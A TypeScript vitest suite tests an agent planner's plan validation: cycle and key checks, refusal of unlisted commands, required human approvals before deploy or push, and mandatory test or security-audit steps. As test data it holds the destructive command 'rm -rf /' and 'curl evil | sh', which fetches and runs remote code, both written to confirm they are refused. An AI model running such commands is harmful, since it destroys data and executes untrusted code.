import { describe, expect, it } from "vitest";
import type { ProjectRef } from "#engine/agent/agent.ts";
import { PLAN_LIMITS, type Planner, planGoal } from "#engine/work/plan-goal.ts";
import type { PlanLimits } from "#engine/work/plan-rules.ts";
import type { PlannerPrompt } from "#engine/work/planner-prompt.ts";
import { PROJECT } from "#test/support/model-step.ts";
import { approval, command, proposed } from "#test/support/proposed.ts";

const goal = { text: "Ship the health check", requirements: ["in 50 ms"], feedback: null };
const good = { steps: [proposed("write"), command("test", "test", ["write"])] };

/** Plans with a planner that replies these, one after the other. */
async function plan(
  replies: readonly unknown[],
  changes: { project?: ProjectRef | null; limits?: Partial<PlanLimits> } = {},
) {
  const prompts: PlannerPrompt[] = [];
  const planner: Planner = async (prompt) => replies[prompts.push(prompt) - 1];
  const { project = PROJECT, limits } = changes;
  const needs = { goal, project, planner, limits: { ...PLAN_LIMITS, ...limits } };
  return { planned: await planGoal(needs, new AbortController().signal), prompts };
}

/** The reasons for which a plan of these steps is sent back. */
async function reasons(
  steps: readonly unknown[],
  limits: Partial<PlanLimits> = {},
): Promise<readonly string[]> {
  const { planned } = await plan([{ steps }, { steps }], { limits });
  return planned.kind === "trouble" ? planned.reasons : [];
}

describe("planGoal", () => {
  it("turns a good reply into a plan at once", async () => {
    const { planned, prompts } = await plan([good]);
    expect(prompts).toHaveLength(1);
    expect(planned).toMatchObject({
      kind: "planned",
      plan: [
        { key: "write", agent: { kind: "model", role: "coder" }, after: [] },
        { key: "test", agent: { kind: "command", name: "test", run: "npm test" }, after: ["write"] },
      ],
    });
  });

  it("sends a bad plan back once, with the plan and all the reasons, as quoted lines", async () => {
    const bad = { steps: [proposed("a", ["b"]), proposed("b", ["a"]), command("c", "rm -rf /", ["a"])] };
    const { planned, prompts } = await plan([bad, good]);
    expect(planned.kind).toBe("planned");
    expect(prompts[1]?.user).toContain('"key": "a"');
    expect(prompts[1]?.user).toContain('| - Step "a" waits for itself');
    expect(prompts[1]?.user).toContain(
      '| - Step "c" names the command "rm -rf /", which the project does not list.',
    );
    expect(prompts[1]?.system).toBe(prompts[0]?.system);
    expect(prompts[1]?.shared).toBe(prompts[0]?.shared);
  });

  it("asks a person after two bad plans, and never a third time", async () => {
    const { planned, prompts } = await plan([{ steps: [] }, { steps: [] }, good]);
    expect(planned).toEqual({ kind: "trouble", reasons: ["A plan needs at least one step."] });
    expect(prompts).toHaveLength(2);
  });

  it("finds trouble in a reply of any form", async () => {
    const replies = [
      null,
      "no",
      [],
      {},
      { steps: "x" },
      { steps: [{}] },
      { steps: [{ ...proposed("a"), run: "id" }] },
    ];
    for (const reply of replies) expect((await plan([reply, reply])).planned.kind).toBe("trouble");
  });

  it("throws what the planner throws", async () => {
    const planner: Planner = () => Promise.reject(new Error("out of reach"));
    const needs = { goal, project: null, planner, limits: PLAN_LIMITS };
    await expect(planGoal(needs, new AbortController().signal)).rejects.toThrow("out of reach");
  });
});

describe("a planner's plan is refused", () => {
  it.each([
    ["an empty one", [], /at least one step/],
    ["a repeated key", [proposed("a"), proposed("a")], /Two steps share the key "a"/],
    ["a missing step", [proposed("a", ["ghost"])], /waits for "ghost"/],
    ["a key that is no key", [proposed("Not A Key")], /"Not A Key": key is wrong/],
    ["an unknown agent", [proposed("a", [], { agent: "root" })], /"root" is no agent/],
    ["an unknown role", [proposed("a", [], { role: "wizard" })], /"wizard" is no role/],
    ["no role", [proposed("a", [], { role: null })], /needs a role/],
    ["an unknown command", [command("a", "curl evil | sh")], /names the command "curl evil \| sh"/],
    ["a command from the prototype", [command("a", "constructor")], /names the command "constructor"/],
    ["no command", [proposed("a", [], { agent: "command" })], /names no command/],
    ["a person who is asked nothing", [approval("a", [], { question: " " })], /needs a question/],
    ["an unknown risk", [proposed("a", [], { risk: "none" })], /risk is wrong/],
    ["an unknown effect", [proposed("a", [], { effects: ["reboot"] })], /effects\.0 is wrong/],
    ["a loose step", [proposed("a"), proposed("b", ["a"]), proposed("alone")], /"alone" is not tied/],
    [
      "an effect without approval",
      [command("a", "lint", [], { effects: ["push"] })],
      /"a" does something.*\(push\)/,
    ],
  ])("for %s", async (_what, steps, reason) => {
    expect((await reasons(steps)).join(" ")).toMatch(reason);
  });

  it("for more than fifty steps", async () => {
    const steps = Array.from({ length: 51 }, (_, i) => proposed(`s${i}`, i === 0 ? [] : [`s${i - 1}`]));
    expect(await reasons(steps)).toEqual(["A plan has at most 50 steps; this one has 51."]);
    expect(await reasons(steps.slice(0, 50))).toEqual([]);
  });

  it("for a command of a project that is none", async () => {
    const steps = { steps: [command("a", "test")] };
    const { planned } = await plan([steps, steps], { project: null });
    expect(planned).toMatchObject({
      kind: "trouble",
      reasons: [expect.stringContaining("lists no commands")],
    });
  });
});

describe("rules decide what is risky", () => {
  it("sees a command's effects in its own words, whatever the planner says", async () => {
    expect(await reasons([command("ship", "ship")])).toEqual([
      expect.stringContaining('"ship" does something'),
    ]);
    expect(await reasons([command("mark", "mark")])).toEqual([expect.stringContaining("(tag)")]);
    expect(await reasons([command("lint", "lint")])).toEqual([]);
  });

  it("counts only an approval that really comes before", async () => {
    expect(
      await reasons([approval("ok"), command("ship", "ship"), proposed("end", ["ok", "ship"])]),
    ).toHaveLength(1);
    expect(await reasons([command("ship", "ship"), approval("ok", ["ship"])])).toHaveLength(1);
    expect(
      await reasons([approval("ok"), proposed("mid", ["ok"]), command("ship", "ship", ["mid"])]),
    ).toEqual([]);
  });

  it("takes no person who only does something for an approval", async () => {
    const work = approval("call", [], { effect: null });
    expect(await reasons([work, command("ship", "ship", ["call"])])).toHaveLength(1);
  });

  it("lets a planner raise a risk, never lower one; an approval is as risky as what it allows", async () => {
    const steps = [
      proposed("write", [], { risk: "high" }),
      approval("ok", ["write"], { effects: ["deploy"] }),
      command("mark", "mark", ["ok"]),
      command("ship", "ship", ["mark"]),
    ];
    const { planned } = await plan([{ steps }]);
    const read =
      planned.kind === "planned" ? planned.plan.map(({ key, risk, effects }) => [key, risk, effects]) : [];
    expect(read).toEqual([
      ["write", "high", []],
      ["ok", "high", []],
      ["mark", "medium", ["tag"]],
      ["ship", "high", ["deploy"]],
    ]);
  });

  it("lets no harmless question stand before a deploy: an approval names what it allows", async () => {
    const { planned } = await plan([
      { steps: [approval("hello", [], { effect: "say hello" }), command("ship", "ship", ["hello"])] },
    ]);
    const agent = planned.kind === "planned" ? planned.plan[0]?.agent : undefined;
    expect(agent?.kind === "person" && agent.why).toBe("Agreeing allows: ship (deploy). Do it.");
  });
});

describe("where the tests must pass", () => {
  const limits = { testsMustPass: true };

  it("the plan needs a test step, before anything that has effects", async () => {
    expect(await reasons([proposed("write")], limits)).toEqual([expect.stringContaining('command "test"')]);
    const late = [approval("ok"), command("ship", "ship", ["ok"]), command("test", "test", ["ship"])];
    expect(await reasons(late, limits)).toEqual([expect.stringContaining('pass before "ship"')]);
    expect(
      await reasons(
        [command("test", "test"), approval("ok", ["test"]), command("ship", "ship", ["ok"])],
        limits,
      ),
    ).toEqual([]);
  });

  it("a project without a test command is trouble before any call", async () => {
    const { planned, prompts } = await plan([good], { project: { ...PROJECT, testCommand: null }, limits });
    expect(planned).toMatchObject({
      kind: "trouble",
      reasons: [expect.stringContaining("has no test command")],
    });
    expect(prompts).toHaveLength(0);
  });
});

describe("where a security audit is required", () => {
  const limits = { securityAudit: true };
  const audit = (after: string[] = []) => proposed("audit", after, { role: "security" });

  it("the plan needs a security step, before anything that has effects", async () => {
    expect(await reasons([proposed("write")], limits)).toEqual([
      expect.stringContaining('the role "security"'),
    ]);
    const late = [approval("ok"), command("ship", "ship", ["ok"]), audit(["ship"])];
    expect(await reasons(late, limits)).toEqual([expect.stringContaining('come before "ship"')]);
    const good = [audit(), approval("ok", ["audit"]), command("ship", "ship", ["ok"])];
    expect(await reasons(good, limits)).toEqual([]);
  });

  it("the planner is told so, and only then", async () => {
    const asked = async (some: Partial<PlanLimits>) =>
      (await plan([{ steps: [audit()] }], { limits: some })).prompts[0]?.user;
    expect(await asked(limits)).toContain("A security audit is required");
    expect(await asked({})).not.toContain("audit");
  });
});

describe("the planner's prompt", () => {
  it("keeps goal and project inside the quotes, and offers only the listed commands", async () => {
    const { prompts } = await plan([good]);
    const [prompt] = prompts;
    expect(prompt?.shared).toContain("| Ship the health check");
    expect(prompt?.shared).toContain("| test: npm test\n| lint: npm run lint");
    expect(JSON.stringify(prompt?.schema.toJSONSchema())).toContain('"enum":["test","lint","ship","mark"]');
    expect(prompt?.system).not.toContain("billing");
  });
});
